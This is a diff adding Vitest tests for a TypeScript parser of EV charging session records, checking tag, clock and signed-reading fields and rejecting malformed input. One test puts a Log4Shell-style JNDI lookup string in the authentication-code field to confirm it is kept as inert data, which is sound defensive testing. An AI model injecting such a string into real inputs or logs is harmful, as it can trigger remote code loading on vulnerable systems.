@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { parseCompletedSession } from "./completed-session";
+import { parseCompletedSession, parseSessionRecord } from "./completed-session";
 
 test("reads a record; an instant without a zone is UTC", () => {
   const json =
@@ -32,3 +32,33 @@ test.each([
 test.each(["", "{", "null", "[]", "7", "{}", '{"SessionId":""}', '{"SessionId":7}'])("no record: %s", (json) => {
   expect(parseCompletedSession(json)).toBeNull();
 });
+
+test("all of it: the tag, whether the clock had been set, and the readings as they were sent", () => {
+  const json = JSON.stringify({
+    SessionId: "s",
+    Energy: 1,
+    ReliableClock: false,
+    AuthenticationCode: `nfc-\${jndi:ldap://x}`,
+    SignedSession: "OCMF|{}",
+  });
+  expect(parseSessionRecord(json)).toEqual({
+    id: "s",
+    energyKwh: 1,
+    startedAt: null,
+    endedAt: null,
+    tag: `nfc-\${jndi:ldap://x}`,
+    hadSetClock: false,
+    signedReadings: "OCMF|{}",
+  });
+});
+
+test.each([
+  [{}],
+  [{ ReliableClock: "true", AuthenticationCode: "", SignedSession: "" }],
+  [{ ReliableClock: 1, AuthenticationCode: 7, SignedSession: {} }],
+])("what is not told is not known: %j", (more) => {
+  const record = parseSessionRecord(JSON.stringify({ SessionId: "s", ...more }));
+  expect(record).toMatchObject({ tag: null, hadSetClock: null, signedReadings: null });
+});
+
+test("no record: nothing", () => expect(parseSessionRecord('{"SessionId":""}')).toBeNull());
